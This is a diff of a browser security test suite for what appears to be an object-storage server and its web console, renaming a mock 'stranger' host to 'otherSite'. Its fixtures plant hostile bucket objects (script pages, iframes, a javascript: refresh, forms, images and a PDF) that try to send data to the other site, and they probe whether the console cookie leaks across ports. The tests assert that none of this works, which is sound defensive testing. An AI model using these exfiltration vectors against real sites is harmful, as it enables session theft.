@@ -6,7 +6,7 @@ import { newPage, startBrowser } from "./support/browser.mjs";
 import { becomes, eventually } from "./support/eventually.mjs";
 import { Screen } from "./support/screen.mjs";
 import { ROOT_PASSWORD, setRootPassword, startServer } from "./support/server.mjs";
-import { loot, openBucket, startStranger } from "./support/stranger.mjs";
+import { loot, openBucket, startOtherSite } from "./support/otherSite.mjs";
 import { signIn } from "./walk.mjs";
 import { WORDS } from "./words.mjs";
 
@@ -17,14 +17,14 @@ const PIXEL = Buffer.from(
   "base64",
 );
 
-let server, browser, bucket, stranger, screen, origin;
+let server, browser, bucket, otherSite, screen, origin;
 
 before(async () => {
   [server, browser] = await Promise.all([startServer(), startBrowser()]);
   origin = `http://localhost:${server.port}`;
   await setRootPassword(server);
   bucket = await openBucket(server, BUCKET);
-  stranger = await startStranger();
+  otherSite = await startOtherSite();
   await fill();
   // The victim: signed in, by the form, in a tab that stays open.
   screen = new Screen(await newPage(browser, { origin }));
@@ -33,7 +33,7 @@ before(async () => {
   await screen.isAt(words.home.title);
 });
 after(async () => {
-  await stranger?.stop();
+  await otherSite?.stop();
   await browser?.close();
   await server?.stop();
 });
@@ -44,7 +44,7 @@ afterEach(async () => {
 
 /** The attacker's objects. */
 async function fill() {
-  const script = loot(stranger);
+  const script = loot(otherSite);
   const page = `<!doctype html><title>page</title><script>${script}</script>`;
   const inText = script.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
   const xhtml = 'xmlns="http://www.w3.org/1999/xhtml"';
@@ -58,13 +58,13 @@ async function fill() {
   await bucket.put("sheet.xsl", "text/xsl", sheet);
   await bucket.put("styled.xml", "text/xml", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="sheet.xsl"?><a/>');
   await bucket.put("parts", "multipart/x-mixed-replace; boundary=b", `--b\r\ncontent-type: text/html\r\n\r\n${page}\r\n--b--`);
-  await bucket.put("paper.pdf", "application/pdf", pdf(`${stranger.origin}/told?text=pdf`));
+  await bucket.put("paper.pdf", "application/pdf", pdf(`${otherSite.origin}/received?text=pdf`));
   const frames = [
     `<iframe src="data:text/html,${encodeURIComponent(page)}"></iframe>`,
     `<iframe srcdoc="${page.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}"></iframe>`,
     `<object data="page.html"></object><embed src="page.html"><iframe src="page.html"></iframe>`,
-    `<script src="worker.js"></script><img src="${stranger.origin}/told?text=picture">`,
-    `<form action="${stranger.origin}/told"><input name="text" value="form" autofocus></form>`,
+    `<script src="worker.js"></script><img src="${otherSite.origin}/received?text=picture">`,
+    `<form action="${otherSite.origin}/received"><input name="text" value="form" autofocus></form>`,
     `<meta http-equiv="refresh" content="0;url=javascript:${encodeURIComponent(script)}">`,
   ];
   await bucket.put("frames.html", "text/html", `<!doctype html>${frames.join("\n")}`);
@@ -97,14 +97,14 @@ async function visit(address, { sameTab = false } = {}) {
   return undefined;
 }
 
-/** Nobody was told anything: a word that is sent last has come, and it is the only one. */
-async function assertNothingTold() {
+/** The other site received nothing: a word that is sent last has arrived, and it is the only one. */
+async function assertNothingReceived() {
   const page = await screen.context.newPage();
-  const last = `last of ${stranger.told.length}`;
-  await page.goto(`${stranger.origin}/told?text=${encodeURIComponent(last)}`);
-  await eventually("the stranger hears", () => stranger.told.includes(last));
-  const told = stranger.told.splice(0);
-  assert.deepEqual(told.map((text) => text.slice(0, 120)), [last]);
+  const last = `last of ${otherSite.received.length}`;
+  await page.goto(`${otherSite.origin}/received?text=${encodeURIComponent(last)}`);
+  await eventually("the other site receives it", () => otherSite.received.includes(last));
+  const received = otherSite.received.splice(0);
+  assert.deepEqual(received.map((text) => text.slice(0, 120)), [last]);
   await page.close();
 }
 
@@ -133,19 +133,19 @@ describe("an object in a bucket", () => {
       addresses.push(...(await Promise.all(addresses.map((address) => bucket.presigned(address)))));
       for (const address of addresses) await assertInert(await visit(address));
       await assertInert(await visit(addresses[0], { sameTab: true }));
-      await assertNothingTold();
+      await assertNothingReceived();
       await assertSignedIn();
     });
   }
 
-  it("is inert when the address says that it is a page", async () => {
+  it("is inert when its address requests that it is shown as a page", async () => {
     for (const kind of ["text/html", "image/svg+xml", "application/xhtml+xml"]) {
       for (const way of [bucket.path, bucket.virtualHost]) {
         const page = await visit(await bucket.presigned(way("page.bin"), { "response-content-type": kind }));
         await assertInert(page);
       }
     }
-    await assertNothingTold();
+    await assertNothingReceived();
   });
 
   it("is inert in parts, and as a paper", async () => {
@@ -155,16 +155,16 @@ describe("an object in a bucket", () => {
         await page?.close();
       }
     }
-    await assertNothingTold();
+    await assertNothingReceived();
     await assertSignedIn();
   });
 
   it("is shown in no frame", async () => {
-    stranger.pages["/frame"] = `<iframe src="${bucket.path("page.html")}"></iframe><iframe src="${origin}/_console/"></iframe>`;
-    const page = await visit(`${stranger.origin}/frame`);
+    otherSite.pages["/frame"] = `<iframe src="${bucket.path("page.html")}"></iframe><iframe src="${origin}/_console/"></iframe>`;
+    const page = await visit(`${otherSite.origin}/frame`);
     const frames = await Promise.all(page.frames().slice(1).map((frame) => frame.evaluate(() => document.URL)));
     assert.deepEqual(frames, ["chrome-error://chromewebdata/", "chrome-error://chromewebdata/"]);
-    await assertNothingTold();
+    await assertNothingReceived();
   });
 
   it("does not become a service worker, not even for the console", async () => {
@@ -215,9 +215,9 @@ describe("an object in a bucket", () => {
 
 describe("another web application on the same machine", () => {
   it("gets the cookie, and no session for it", async () => {
-    // Cookies know no ports: at this path the browser sends ours along.
-    await visit(`${stranger.origin}/_console/anything`);
-    const cookie = stranger.cookies.find((text) => text.includes("shoseki_console="));
+    // Cookies are not bound to ports: at this path the browser sends the console's cookie.
+    await visit(`${otherSite.origin}/_console/anything`);
+    const cookie = otherSite.cookies.find((text) => text.includes("shoseki_console="));
     assert.ok(cookie, "browsers do not send it any more: this test is not needed");
     for (const host of [origin, server.origin]) {
       for (const method of ["GET", "DELETE"]) {
@@ -233,7 +233,7 @@ describe("another web application on the same machine", () => {
   });
 
   it("cannot ask in the browser's name", async () => {
-    const page = await visit(`${stranger.origin}/told?text=`);
+    const page = await visit(`${otherSite.origin}/received?text=`);
     const answers = await page.evaluate(async (own) => {
       const ask = (path, more) => fetch(own + path, { credentials: "include", ...more }).then(() => "answered", () => "refused");
       return [
@@ -252,17 +252,17 @@ describe("another web application on the same machine", () => {
       ];
     }, origin);
     assert.deepEqual(answers, Array(7).fill("refused"));
-    stranger.told.length = 0;
+    otherSite.received.length = 0;
     await assertSignedIn();
   });
 });
 
 describe("an honest page", () => {
-  it("shows pictures of a bucket, whatever type they have", async () => {
+  it("shows pictures of a bucket, of any type", async () => {
     const sources = await Promise.all(["pixel.png", "pixel.bin"].map((key) => bucket.presigned(bucket.path(key))));
     sources.push(bucket.path("pixel.png"), bucket.virtualHost("pixel.bin"));
-    stranger.pages["/album"] = sources.map((source) => `<img src="${source.replaceAll("&", "&amp;")}">`).join("");
-    const page = await visit(`${stranger.origin}/album`);
+    otherSite.pages["/album"] = sources.map((source) => `<img src="${source.replaceAll("&", "&amp;")}">`).join("");
+    const page = await visit(`${otherSite.origin}/album`);
     await becomes(() => page.evaluate(() => [...document.images].map((image) => image.naturalWidth)), [1, 1, 1, 1]);
     // By itself, too.
     const alone = await visit(sources[0]);
@@ -272,8 +272,8 @@ describe("an honest page", () => {
   it("downloads, also by a frame", async () => {
     const query = { "response-content-disposition": 'attachment; filename="kept.html"' };
     const address = await bucket.presigned(bucket.path("page.html"), query);
-    stranger.pages["/load"] = `<iframe src="${address.replaceAll("&", "&amp;")}"></iframe>`;
-    for (const way of [address, `${stranger.origin}/load`]) {
+    otherSite.pages["/load"] = `<iframe src="${address.replaceAll("&", "&amp;")}"></iframe>`;
+    for (const way of [address, `${otherSite.origin}/load`]) {
       const page = await screen.context.newPage();
       const begun = page.waitForEvent("download");
       await page.goto(way).catch(() => undefined);
@@ -285,22 +285,22 @@ describe("an honest page", () => {
   });
 
   it("sends a form to a bucket and is shown what follows", async () => {
-    const back = `${stranger.origin}/thanks`;
-    stranger.pages["/thanks"] = "<title>thanks</title>";
+    const back = `${otherSite.origin}/thanks`;
+    otherSite.pages["/thanks"] = "<title>thanks</title>";
     const form = (target, fields) =>
       `<form method="post" enctype="multipart/form-data" action="${bucket.path("")}" target="${target}">${Object.entries(fields)
         .map(([name, value]) => `<input name="${name}" value="${value}">`)
         .join("")}<input name="file" value="bytes"><button>send</button></form>`;
     await bucket.allow("s3:GetObject", "s3:PutObject");
     for (const target of ["_self", "inside"]) {
-      stranger.pages["/form"] = `<iframe name="inside"></iframe>${form(target, { key: `sent-${target}`, success_action_redirect: back })}`;
-      const page = await visit(`${stranger.origin}/form`);
+      otherSite.pages["/form"] = `<iframe name="inside"></iframe>${form(target, { key: `sent-${target}`, success_action_redirect: back })}`;
+      const page = await visit(`${otherSite.origin}/form`);
       await page.getByRole("button").click();
       const frame = () => (target === "_self" ? page.mainFrame() : page.frame("inside"));
       await eventually("the page that follows", () => frame().url().startsWith(back));
       await page.close();
     }
-    const page = await visit(`${stranger.origin}/form`);
+    const page = await visit(`${otherSite.origin}/form`);
     await page.evaluate(() => {
       document.forms[0].target = "_self";
       document.forms[0].elements.success_action_redirect.name = "success_action_status";
